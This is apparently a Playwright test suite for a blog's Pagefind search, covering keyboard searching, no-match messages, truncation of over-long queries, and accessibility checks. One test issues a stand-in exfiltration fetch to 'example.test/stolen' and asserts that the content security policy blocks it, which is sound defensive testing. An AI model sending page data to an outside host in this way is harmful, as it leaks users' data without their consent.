import { expect, test } from "@playwright/test";
import { SEARCH_QUERY_MAX_LENGTH } from "../../../src/page-scripts/blog-search";
import { wordOnlyInOneBody } from "../../support/site-pages";
import { watchSecurity } from "../../support/watch-security";
import { axeFindings } from "../../support/axe";

test("blog search finds an article by a word from its body and opens it; nothing loads until searching", async ({
  context,
  page,
  baseURL,
}) => {
  const { word, slug, title } = wordOnlyInOneBody();
  const watch = await watchSecurity(context, baseURL ?? "");
  const pagefindRequests: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).pathname.startsWith("/pagefind/")) pagefindRequests.push(request.url());
  });

  // The blog index has a plain search form: no search code loads there.
  await page.goto("/blog");
  await expect(page.getByRole("search")).toBeVisible();
  expect(pagefindRequests).toEqual([]);

  // Typing and pressing Enter, by keyboard.
  await page.getByLabel("Search the articles").fill(word);
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(new RegExp(`/blog/search\\?q=${word}$`));
  const results = page.getByRole("list", { name: "Search results" });
  const link = results.getByRole("link", { name: title });
  await expect(link).toBeVisible();
  await expect(page.getByRole("status")).toHaveText(/1 article found/);
  expect(pagefindRequests.length).toBeGreaterThan(0);
  expect(await axeFindings(page, {})).toEqual([]);

  // A second search from the search page itself, with no match.
  await page.getByLabel("Search the articles").fill("zzqxwv");
  await page.getByRole("button", { name: "Search" }).click();
  await expect(page.getByRole("status")).toHaveText(/No article mentions "zzqxwv"/);
  await expect(results.getByRole("listitem")).toHaveCount(0);
  // A near miss Pagefind would return (its excerpt marks nothing) is not a find either.
  await page.getByLabel("Search the articles").fill("xqzv");
  await page.getByRole("button", { name: "Search" }).click();
  await expect(page.getByRole("status")).toHaveText(/No article mentions "xqzv"/);
  await expect(results.getByRole("listitem")).toHaveCount(0);

  await page.getByLabel("Search the articles").fill(word);
  await page.getByLabel("Search the articles").press("Enter");
  await link.focus();
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(new RegExp(`/blog/${slug}$`));
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(title);
  expect(watch.violations).toEqual([]);
  expect(watch.foreignRequests).toEqual([]);
  expect(watch.errors).toEqual([]);
});

test("an over-long query from the address is cut to the maximum in the field and in the echo", async ({ page }) => {
  await page.goto(`/blog/search?q=${"x".repeat(5000)}`);
  const field = page.getByLabel("Search the articles");
  await expect(field).toHaveAttribute("maxlength", String(SEARCH_QUERY_MAX_LENGTH));
  await expect(field).toHaveValue("x".repeat(SEARCH_QUERY_MAX_LENGTH));
  // The echo (in either wording of the status line) quotes the cut query, marked as cut.
  await expect(page.getByRole("status")).toHaveText(new RegExp(`[^x]"x{${SEARCH_QUERY_MAX_LENGTH}}…"`));
  await expect(page).toHaveURL(new RegExp(`/blog/search\\?q=x{${SEARCH_QUERY_MAX_LENGTH}}$`));
});

test("typing a word shows results without pressing Enter", async ({ page }) => {
  const { word, title } = wordOnlyInOneBody();
  await page.goto("/blog/search");
  await page.getByLabel("Search the articles").pressSequentially(word);
  await expect(page.getByRole("list", { name: "Search results" }).getByRole("link", { name: title })).toBeVisible();
  await expect(page.getByRole("status")).toHaveText(/1 article found/);
  await expect(page).toHaveURL(new RegExp(`/blog/search\\?q=${word}$`));
});

test("Pagefind searches in the page, under its policy: no worker of its own, and its context cannot reach another server", async ({
  page,
}) => {
  const { word, title } = wordOnlyInOneBody();
  await page.goto(`/blog/search?q=${word}`);
  await expect(page.getByRole("list", { name: "Search results" }).getByRole("link", { name: title })).toBeVisible();
  // Its worker would start from its own address and, on a host that ignores _headers, run with no policy.
  expect(page.workers().map((worker) => worker.url())).toEqual([]);
  const refused = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
    const reached = await fetch("https://example.test/stolen?from=pagefind").then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    const policy = document.querySelector('meta[http-equiv="content-security-policy"]')?.getAttribute("content") ?? "";
    return { reached, violations, policy };
  });
  expect(refused.reached).toBe(false);
  expect(refused.violations).toContain("connect-src");
  // Text compiled as code stays refused (no 'unsafe-eval'); only WebAssembly, which Pagefind needs.
  // (Playwright's own evaluation is exempt from that rule, so the policy is read instead.)
  expect(refused.policy).toContain("'wasm-unsafe-eval'");
  expect(refused.policy).not.toContain("'unsafe-eval'");
});
